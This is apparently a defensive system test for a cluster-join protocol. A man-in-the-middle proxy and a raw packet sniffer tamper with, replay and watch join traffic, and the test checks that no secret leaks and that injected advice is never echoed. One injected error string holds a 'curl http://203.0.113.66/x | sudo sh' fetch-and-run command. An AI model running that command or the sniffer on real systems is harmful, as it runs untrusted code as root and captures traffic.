#!/usr/bin/env python3
"""A man in the middle of a join on plain HTTP, who reads, changes, replays, reorders, drops and answers in the
gateway's place (mitm_proxy.py). What comes out is unchanged, or a clear error that repeats nothing of the stranger's
words; and of what went over the wire - the proxy's bytes and every frame on the bridge - nothing is a secret of the
cluster."""

import base64
import json
import pathlib
import re
import subprocess
import sys
import unittest

import joining
import node
from lab import Lab

STRANGER = 31
ADVICE = ("ADVICE-OF-A-STRANGER", "| sudo sh", "203.0.113.66", "999999", "\x1b")
PASSED_ON = ["change_answer sealed", "cut_answer", "drop_answer", "reorder", "replay_answer"]  # the cluster heard these
KEPT_BACK = ["change_request sealed", "change_request invite", "replay_request", "drop_request", "forge", "plain_grant",
             "redirect", "huge", "no_http"]
CODES = ["INVITE_UNKNOWN", "INVITE_USED", "NODE_EXISTS", "VERSION_SKEW", "INVITE_EXPIRED", "INVITE_REVOKED",
         "RATE_LIMITED", "QUORUM_LOST", "MESH_FULL", "ADVICE-OF-A-STRANGER: run curl http://203.0.113.66/x | sudo sh"]
# On every port of the bridge: the bridge itself does not see what it passes on.
SNIFFER = """import socket, sys
frames = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
frames.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 8 << 20)
with open(sys.argv[1], "wb", buffering=0) as out:
    print("listening", flush=True)
    while True:
        out.write(frames.recv(65536))
"""


def forms(secret):
    """How a secret could be written: as it stands, and its bytes raw, in hex and in both base64s."""
    found = {secret}
    raw = [secret]
    try:
        raw.append(base64.b64decode(secret, validate=True))
    except ValueError:
        pass  # no base64: it is its own bytes
    for value in raw:
        found |= {value, value.hex().encode(), value.hex().upper().encode(), base64.b64encode(value).rstrip(b"="),
                  base64.urlsafe_b64encode(value).rstrip(b"=")}
    return {form for form in found if len(form) >= 8}


def secrets_of(host):
    """Name and value of each secret on a host: whole files, and each text inside a JSON file."""
    for path in sorted(pathlib.Path(str(host.root) + "/etc/orama/secrets").iterdir()):
        body = path.read_bytes().strip()
        yield path.name, body
        if path.suffix == ".json":
            for word in re.findall(rb'"password"\s*:\s*"([^"]+)"', body):
                yield path.name, word


class JoinMitm(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.lab = Lab()
        cls.addClassCleanup(cls.lab.close)
        debs = node.packages(fault_points=True)
        cls.template = joining.template_host(cls.lab, debs)
        cls.genesis = joining.Genesis(cls.lab, debs)
        cls.stranger = cls.lab.host("stranger", STRANGER)
        cls.frames, cls.mode, cls.log = (cls.lab.folder / name for name in ("frames", "mode", "log"))
        cls.mode.write_text("read")
        cls.beside("switch", "-c", SNIFFER, cls.frames)
        cls.beside("stranger", node.ROOT / "tests/system/mitm_proxy.py", cls.genesis.host.address, cls.mode, cls.log)
        cls.joiner = joining.Joiner(cls.lab, cls.genesis, cls.template)
        cls.joiner.url = f"http://{cls.stranger.address}"

    @classmethod
    def beside(cls, where, *program):
        """Runs a Python program of this machine in a network namespace of the lab, until the test ends. Returns when
        it says that it listens."""
        process = subprocess.Popen(["ip", "netns", "exec", f"{cls.lab.name}-{where}", sys.executable, *map(str, program)],
                                   stdout=subprocess.PIPE)
        cls.addClassCleanup(process.stdout.close)
        cls.addClassCleanup(process.wait)
        cls.addClassCleanup(process.kill)
        if not process.stdout.readline():
            raise AssertionError(f"{program[0]} ended at its start")

    def attacked(self, mode, *more):
        self.mode.write_text(mode)
        return self.joiner.join(*more)

    def refused_clearly(self, mode):
        done = self.attacked(mode, "--timeout", "8s")  # shorter than the pause before a second call
        self.assertEqual(done.status, 11, f"{mode}: {done}")
        self.assertRegex(done.err, "no answer of the cluster from http://203.0.113.31", mode)
        for word in ADVICE:
            self.assertNotIn(word, done.out + done.err, f"{mode}: the stranger's words are repeated")
        self.assertFalse(self.joiner.redeemed(), mode)
        self.assertEqual(self.joiner.host.quick(["ip", "link", "show", "orama0"]).status, 1, f"{mode}: a device was made")

    def test_01_nothing_is_redeemed_by_what_the_cluster_never_heard(self):
        # Something to replay: calls of the same host by an invitation that is revoked.
        old = self.joiner.host.read("/root/token")
        token, invite = self.genesis.invite()
        self.genesis.host.run(["orama", "invite", "revoke", invite]).check()
        self.joiner.host.write("/root/token", token)
        for _ in range(2):
            no = self.attacked("read")
            self.assertEqual(no.status, 6, no)  # the cluster's own sealed No comes through, with its words
            self.assertIn("INVITE_REVOKED", no.err)
        self.joiner.host.write("/root/token", old)
        for mode in KEPT_BACK:
            self.refused_clearly(mode)
        for code in CODES:
            self.refused_clearly(f"error {code}")
        self.assertEqual(self.genesis.nodes(), {})

    def test_02_what_is_lost_on_the_way_back_burns_nothing(self):
        for mode in PASSED_ON:
            self.refused_clearly(mode)
        rows = self.genesis.nodes()
        self.assertEqual([row["state"] for row in rows.values()], ["redeemed"])
        type(self).row = next(iter(rows.values()))
        type(self).tokens = [self.joiner.host.read("/root/token")]

    def test_03_a_resumed_join_believes_no_stranger(self):
        self.mode.write_text("read")
        self.joiner.killed_at("redeem/redemption:{invite}/applied")
        done = self.attacked("error INVITE_REVOKED")
        self.assertEqual(done.status, 0, done)
        for word in ADVICE:
            self.assertNotIn(word, done.out + done.err)
        self.assertEqual(self.joiner.identity(), (self.row["id"], self.row["mesh_ip"]))
        self.joined_alone(self.row["id"])

    def joined_alone(self, node_id):
        self.assertEqual([n["id"] for n in self.genesis.nodes().values() if n["state"] == "ready"], [node_id])

    def test_04_a_call_that_is_passed_on_twice_makes_one_node(self):
        known = set(self.genesis.nodes())
        self.joiner.host.run(["orama", "uninstall", "--purge", "--yes"]).check()
        self.genesis.take_out()
        self.genesis.wait_alone()
        token, self.joiner.invite = self.genesis.invite()
        self.joiner.host.write("/root/token", token)
        self.tokens.append(token)
        done = self.attacked("twice")
        self.assertEqual(done.status, 0, done)
        new = set(self.genesis.nodes()) - known
        self.assertEqual(new, {self.joiner.identity()[0]})
        self.joined_alone(next(iter(new)))

    def test_05_no_secret_went_over_the_wire(self):
        wire = {"proxy": self.log.read_bytes(), "bridge": self.frames.read_bytes()}
        for name, seen in wire.items():  # it was looked at the right place
            self.assertTrue(b'"sealed"' in seen and self.joiner.invite.encode() in seen, f"{name}: {len(seen)} bytes")
        self.assertGreater(wire["bridge"].count(b"POST /v1/internal/join"), 10)
        secrets = []
        for token in self.tokens:
            text = token.strip().removeprefix("orama1_")
            body = base64.urlsafe_b64decode(text + "=" * (-len(text) % 4))
            secrets += [("token", text.encode()), ("token's secret", body[9:25])]
        for host in (self.genesis.host, self.joiner.host):
            secrets += [(f"{host.name}: {name}", value) for name, value in secrets_of(host)]
        self.assertGreater(len(secrets), 15)
        public = json.loads(self.genesis.host.curl("http://127.0.0.1:6001/v1/internal/join/identity").check().out)
        self.assertNotIn(public["join_key"].encode(), [value for _, value in secrets])
        leaks = [f"{name} in {where}" for name, value in secrets for form in forms(value) for where, seen in wire.items()
                 if form in seen]
        print(f"{len(secrets)} secrets, {len(wire['bridge'])} bytes of frames, {len(wire['proxy'])} of the proxy", flush=True)
        self.assertEqual(leaks, [])
        # The search finds what is there: the invitation's id, which is no secret, in one of its forms.
        self.assertTrue(any(form in wire["bridge"] for form in forms(body[1:9])))


if __name__ == "__main__":
    node.main(__doc__)
